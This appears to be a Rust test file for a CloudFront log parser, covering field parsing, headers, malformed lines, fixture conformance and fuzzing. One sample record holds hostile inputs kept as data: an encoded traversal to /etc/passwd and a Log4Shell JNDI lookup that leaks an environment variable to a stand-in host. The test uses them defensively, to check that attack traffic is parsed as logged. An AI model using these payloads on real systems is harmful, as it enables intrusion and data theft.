use super::*;
use crate::parse::Owned;
use crate::parse::alb::tests::{fixture, formats_dir, ip, outcomes, req, t};

const SAMPLE: &str = include_str!("../../../sample-logs/cloudfront.log");

#[test]
fn sample_file_every_line() {
    let o = outcomes(SAMPLE, None);
    assert_eq!(o.len(), 15);
    assert_eq!(o[0], Owned::Skipped("header"));
    assert_eq!(o[1], Owned::Skipped("header"));

    // 3: cache hit, full 33 columns.
    let r = req(&o[2]);
    assert_eq!(r.format, Format::Cloudfront);
    assert_eq!(r.time, t("2024-03-05T12:00:01Z"));
    assert_eq!(r.edge_location.as_deref(), Some("FRA56-P1"));
    assert_eq!((r.bytes_out, r.bytes_in), (Some(5120), Some(410)));
    assert_eq!(r.client_ip, ip("198.51.100.40"));
    assert_eq!(r.client_port, Some(40100));
    assert_eq!(r.method.as_deref(), Some("GET"));
    assert_eq!(
        r.host.as_deref(),
        Some("www.example.org"),
        "x-host-header wins"
    );
    assert_eq!(r.path.as_deref(), Some("/index.html"));
    assert_eq!(r.query, None);
    assert_eq!(r.status, Some(200));
    assert_eq!(r.referrer, None);
    assert_eq!(
        r.user_agent.as_deref(),
        Some("Mozilla/5.0%20(X11;%20Linux%20x86_64)%20Gecko/20100101%20Firefox/123.0"),
        "kept percent-encoded as logged"
    );
    assert_eq!(
        r.trace_id.as_deref(),
        Some("AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEFGHij==")
    );
    assert_eq!(r.scheme.as_deref(), Some("https"));
    assert_eq!(r.protocol.as_deref(), Some("HTTP/2.0"));
    assert_eq!(r.total_time_us, Some(2000));
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.3"));
    assert_eq!(r.tls_cipher.as_deref(), Some("TLS_AES_128_GCM_SHA256"));
    assert_eq!(r.reason, None);
    assert_eq!((r.backend_status, r.backend.as_deref()), (None, None));

    // 4: IPv6 c-ip, referrer, query.
    let r = req(&o[3]);
    assert_eq!(r.client_ip, ip("2001:db8:4006:80b::200e"));
    assert_eq!(r.referrer.as_deref(), Some("https://www.example.org/"));
    assert_eq!(r.query.as_deref(), Some("lang=en"));
    assert_eq!(r.total_time_us, Some(145_000));

    // 5: 502 OriginDnsError.
    let r = req(&o[4]);
    assert_eq!(r.status, Some(502));
    assert_eq!(r.reason.as_deref(), Some("OriginDnsError"));
    assert_eq!(
        (r.scheme.as_deref(), r.tls_protocol.as_deref()),
        (Some("http"), None)
    );

    // 6: status 000 is None.
    let r = req(&o[5]);
    assert_eq!(r.forwarded_for, None, "`-` is absent");
    assert_eq!(r.status, None);
    assert_eq!(r.method.as_deref(), Some("POST"));
    assert_eq!(r.host.as_deref(), Some("api.example.org"));

    // 7: x-forwarded-for with a space inside the field does not shift columns.
    let r = req(&o[6]);
    assert_eq!(r.status, Some(200));
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.2"));
    assert_eq!(r.client_port, Some(40104));
    assert_eq!(r.reason, None, "RefreshHit is not an error");
    assert_eq!(
        r.forwarded_for.as_deref(),
        Some("198.51.100.250, 203.0.113.9")
    );

    // 8: attack: encoded traversal and Log4Shell UA, WAF 403 `Error`.
    let r = req(&o[7]);
    assert_eq!(r.status, Some(403));
    assert_eq!(r.path.as_deref(), Some("/..%252f..%252fetc/passwd"));
    assert_eq!(
        r.user_agent.as_deref(),
        Some("$%7Bjndi:ldap://$%7Benv:USER%7D.probe.example/a%7D")
    );
    assert_eq!(r.query.as_deref(), Some("cmd=$%7Bjndi:dns://x.example%7D"));
    assert_eq!(r.reason.as_deref(), Some("Error"));

    // 9: truncated to 31 columns: still a request, range fields simply absent.
    let r = req(&o[8]);
    assert_eq!(r.status, Some(404));
    assert_eq!(r.path.as_deref(), Some("/en(test)"));
    assert_eq!(r.client_ip, ip("127.0.0.1"));
    assert_eq!(r.trace_id.as_deref(), Some("somevalidbase64=="));
    assert_eq!(r.client_port, Some(50294));

    assert_eq!(o[9], Owned::Skipped("blank"));
    assert_eq!(o[10], Owned::Rejected(Reject("garbage")));
    assert_eq!(o[11], Owned::Rejected(Reject("truncated")));
    assert_eq!(o[12], Owned::Skipped("header"));

    // 14–15: under a new, shorter `#Fields` header; 14 ends in CRLF, 15 has no newline.
    let r = req(&o[13]);
    assert_eq!(r.client_ip, ip("198.51.100.44"));
    assert_eq!((r.status, r.path.as_deref()), (Some(204), Some("/short")));
    assert_eq!(r.total_time_us, Some(10_000));
    assert_eq!(
        r.host.as_deref(),
        Some("d1a2b3c4d5e6f7.cloudfront.net"),
        "cs(Host) fallback"
    );
    assert_eq!(
        (r.edge_location.as_deref(), r.user_agent.as_deref()),
        (None, None)
    );
    let r = req(&o[14]);
    assert_eq!(
        (r.method.as_deref(), r.total_time_us),
        (Some("HEAD"), Some(0))
    );
    assert_eq!(r.time, t("2024-03-05T12:00:10Z"));
}

#[test]
fn headerless_uses_default_order() {
    // The same records without headers are sniffed and read in the default order.
    let body: Vec<&str> = SAMPLE.split('\n').skip(2).take(7).collect();
    let text = body.join("\n");
    let o = outcomes(&text, None);
    for (i, out) in o.iter().enumerate() {
        let r = req(out);
        assert_eq!(r.format, Format::Cloudfront, "line {}", i + 1);
    }
    assert_eq!(req(&o[2]).reason.as_deref(), Some("OriginDnsError"));
    assert!(sniff(body[0]));
    assert!(!sniff("2024-03-05 12:00:01 not tsv"));
    assert!(!crate::parse::alb::sniff(body[0]));
    assert!(!crate::parse::elb::sniff(body[0]));
}

#[test]
fn header_handling() {
    let mut p = Parser::default();
    assert!(p.header("#Version: 1.0"));
    assert!(!p.header("#Comment: something else"));
    assert!(p.header("#Fields: time date c-ip cs-method cs-uri-stem sc-status\r"));
    let r = p.parse("01:02:03\t2024-01-02\t::1\tGET\t/\t200").unwrap();
    assert_eq!(r.time, t("2024-01-02T01:02:03Z"));
    assert_eq!(r.client_ip, ip("::1"));
    // A header without the essential columns: nothing under it is a request.
    assert!(p.header("#Fields: date time x-edge-location"));
    assert_eq!(
        p.parse("2024-01-02\t01:02:03\tFRA56"),
        Err(Reject("missing-columns"))
    );
    let p = Parser::default();
    assert_eq!(
        p.parse("2024-02-31x\t01:02:03\tA\t1\t1.2.3.4\tGET\th\t/\t200\t-\t-"),
        Err(Reject("bad-timestamp"))
    );
    assert_eq!(
        p.parse("2024-01-02\t01:02:03\tA\t1\t1.2.3.4\tGET\th\t/\tOK\t-\t-"),
        Err(Reject("bad-status"))
    );
}

#[test]
fn conformance_published_fixtures() {
    let Some(dir) = formats_dir("cloudfront") else {
        println!("skipped: formats folder not found");
        return;
    };
    let mut total = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        for (i, (line, out)) in text.split('\n').zip(outcomes(&text, None)).enumerate() {
            let at = format!("{}:{}", path.display(), i + 1);
            if line.starts_with('#') {
                assert_eq!(out, Owned::Skipped("header"), "{at}");
                continue;
            }
            if line.trim().is_empty() {
                assert_eq!(out, Owned::Skipped("blank"), "{at}");
                continue;
            }
            total += 1;
            let r = req(&out);
            assert_eq!(r.format, Format::Cloudfront, "{at}");
            assert!(r.client_ip.is_some(), "{at}");
            assert!(
                r.method.is_some() && r.path.is_some() && r.edge_location.is_some(),
                "{at}"
            );
            assert!(r.trace_id.is_some() && r.total_time_us.is_some(), "{at}");
        }
    }
    assert_eq!(total, 14);

    let Some(text) = fixture("cloudfront", "elastic-integrations-test-cloudfront.log") else {
        return;
    };
    let o = outcomes(&text, None);
    let r = req(&o[3]);
    assert_eq!(r.client_ip, ip("2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6"));
    assert_eq!(r.time, t("2019-12-04T21:02:31Z"));
    for out in &o[5..8] {
        let r = req(out);
        assert_eq!(
            (r.status, r.reason.as_deref()),
            (Some(502), Some("OriginDnsError"))
        );
        assert_eq!(r.host.as_deref(), Some("www.example.com"));
    }
    assert_eq!(req(&o[9]).status, None, "000");
    assert_eq!(req(&o[10]).total_time_us, Some(93_000));
    let r = req(&o[13]);
    assert_eq!(
        (r.status, r.path.as_deref()),
        (Some(404), Some("/en(test)"))
    );
    assert_eq!(r.trace_id.as_deref(), Some("somevalidbase64=="));

    let Some(text) = fixture("cloudfront", "crowdsec-hub-aws-cloudfront-logs.log") else {
        return;
    };
    let o = outcomes(&text, None);
    for out in &o {
        let r = req(out);
        assert_eq!((r.status, r.reason.as_deref()), (Some(400), Some("Error")));
        assert_eq!(r.query.as_deref(), Some("query_param=42"));
        assert_eq!(r.host.as_deref(), Some("hub-cdn.crowdsec.net"));
        assert_eq!(r.client_port, Some(51754));
        assert_eq!(r.total_time_us, Some(113_000));
        assert_eq!(r.protocol.as_deref(), Some("HTTP/2.0"));
    }
}

mod fuzz {
    use super::*;
    use proptest::prelude::*;

    fn check(p: &Parser, line: &str) {
        if let Ok(r) = p.parse(line) {
            assert!((crate::parse::alb::MIN_TIME..crate::parse::alb::MAX_TIME).contains(&r.time));
        }
        let _ = sniff(line);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn arbitrary_strings(s in "[0-9a-z:\\-\\t .%]{0,400}") {
            check(&Parser::default(), &s);
        }

        #[test]
        fn arbitrary_bytes(b in proptest::collection::vec(any::<u8>(), 0..600)) {
            check(&Parser::default(), &String::from_utf8_lossy(&b));
        }

        #[test]
        fn arbitrary_headers(h in ".{0,200}", l in ".{0,300}") {
            let mut p = Parser::default();
            p.header(&format!("#Fields: {h}"));
            check(&p, &l);
        }

        #[test]
        fn mutated_lines(
            which in 2usize..9,
            edits in proptest::collection::vec((any::<prop::sample::Index>(), 0u8..3, any::<char>()), 1..6),
        ) {
            let mut b: Vec<u8> = SAMPLE.split('\n').nth(which).unwrap().as_bytes().to_vec();
            for (at, op, c) in edits {
                if b.is_empty() { break; }
                let i = at.index(b.len());
                match op {
                    0 => { b.truncate(i); }
                    1 => { b.remove(i); }
                    _ => { let mut buf = [0u8; 4]; for (k, x) in c.encode_utf8(&mut buf).bytes().enumerate() { b.insert(i + k, x); } }
                }
            }
            check(&Parser::default(), &String::from_utf8_lossy(&b));
        }
    }
}
